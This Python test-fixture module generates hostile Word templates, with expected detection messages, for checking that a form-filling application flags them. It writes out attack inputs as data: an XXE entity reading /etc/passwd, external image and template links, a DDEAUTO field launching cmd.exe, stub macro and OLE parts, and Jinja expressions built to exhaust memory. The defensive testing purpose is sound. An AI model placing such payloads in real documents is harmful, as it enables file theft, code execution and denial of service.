"""Hostile Word templates, as a sender would make them: the bundled forms with one part edited to
reach out (external relationships, OLE, fetching fields, DOCTYPE/ENTITY, macros) or to exhaust the
machine. Shared by the tests and benchmarks/bounds.py."""

from __future__ import annotations

import io
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

from desktop.paths import forms_dir, samples_dir

SAMPLE = str(samples_dir() / "chengdu-trader.json")
FORM = "申报书.docx"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
Edit = Callable[[dict[str, bytes]], None]


def paragraph(xml: str) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"<w:body>", b"<w:body>" + xml.encode(), 1
        )

    return edit


def _relationship(kind: str, target: str, external: bool = True) -> Edit:
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'

    def edit(parts: dict[str, bytes]) -> None:
        parts[RELS] = parts[RELS].replace(b"</Relationships>", element.encode() + b"</Relationships>")

    return edit


def _both(*edits: Edit) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        for each in edits:
            each(parts)

    return edit


def _add(name: str, data: bytes) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts[name] = data

    return edit


def _doctype(parts: dict[str, bytes]) -> None:
    xml = parts["word/document.xml"]
    start = xml.index(b"<w:document")
    parts["word/document.xml"] = (
        xml[:start] + b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + xml[start:]
    )


def _macro_types(parts: dict[str, bytes]) -> None:
    parts[TYPES] = parts[TYPES].replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    )


def tags(count: int) -> Edit:
    return paragraph("<w:p><w:r><w:t>" + "{{ year }}" * count + "</w:t></w:r></w:p>")


def forms_with(folder: Path, edit: Edit, name: str = FORM) -> Path:
    """Copy the bundled forms to ``folder`` and apply ``edit`` to the parts of one of them."""
    shutil.copytree(forms_dir(), folder, dirs_exist_ok=True)
    path = folder / name
    with zipfile.ZipFile(path) as archive:
        parts = {info.filename: archive.read(info) for info in archive.infolist()}
    edit(parts)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    path.write_bytes(buffer.getvalue())
    return folder


INERT_CASES = {
    "external image (file:)": (
        _relationship("image", "file:///etc/passwd"),
        [RELS, "图片指向外部地址 file:///etc/passwd"],
    ),
    "external image (http:)": (
        _relationship("image", "http://198.51.100.7/track.png"),
        [RELS, "图片指向外部地址 http://198.51.100.7/track.png"],
    ),
    "external hyperlink": (_relationship("hyperlink", "file:///C:/Users/"), [RELS, "超链接指向外部地址"]),
    "attached template": (
        _relationship("attachedTemplate", "http://198.51.100.7/t.dotm"),
        [RELS, "附加模板指向外部地址 http://198.51.100.7/t.dotm"],
    ),
    "OLE object": (
        _both(
            _relationship("oleObject", "embeddings/oleObject1.bin", external=False),
            _add("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ),
        ["word/embeddings/oleObject1.bin", "嵌入的 OLE 对象"],
    ),
    "embedded object element": (
        paragraph('<w:p><w:r><w:object><o:OLEObject ProgID="Package"/></w:object></w:r></w:p>'),
        ["word/document.xml", "嵌入对象 <w:object>"],
    ),
    "INCLUDEPICTURE field": (
        paragraph(
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://198.51.100.7/x.png&quot; \\d "/></w:p>'
        ),
        ["word/document.xml", "INCLUDEPICTURE 域"],
    ),
    "INCLUDETEXT field split over runs": (
        paragraph(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r>'
            '<w:r><w:instrText>TEXT "C:\\\\secret.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        ["word/document.xml", "INCLUDETEXT 域"],
    ),
    "LINK field": (
        paragraph(
            '<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.8 &quot;\\\\\\\\server\\\\x.xls&quot; "/></w:p>'
        ),
        ["word/document.xml", "LINK 域"],
    ),
    "DDEAUTO field": (
        paragraph(
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
        ),
        ["word/document.xml", "DDEAUTO 域"],
    ),
    "VML image from a file": (
        paragraph('<w:p><w:r><w:pict><v:imagedata o:href="file:///etc/passwd"/></w:pict></w:r></w:p>'),
        ["word/document.xml", "引用外部地址 file:///etc/passwd"],
    ),
    "DOCTYPE and ENTITY": (_doctype, ["word/document.xml", "<!DOCTYPE> 声明"]),
    "macros": (
        _both(_add("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), _macro_types),
        ["word/vbaProject.bin", "宏(VBA 工程)"],
    ),
}


EXHAUSTION = {
    "power tower": "{{ (((10**1000)**1000)**1000) > 1 }}",
    "joined repeats": "{{ (['x'*15000000]*100)|join|length }}",
    "replace": "{{ ('x'*15000000)|replace('x', 'xx')|length }}",
    "concatenation": "{% set s = 'x'*15000000 %}{{ (s ~ s ~ s)|length }}",
    "joined map": "{% set s = 'x'*10000000 %}{{ [s, s, s, s]|map('upper')|join|length }}",
    "str.format": "{% set s = 'x'*10000000 %}{{ '{}{}{}'.format(s, s, s)|length }}",
    "batch fill": "{{ [1]|batch(999999999, 'x')|list|length }}",
}
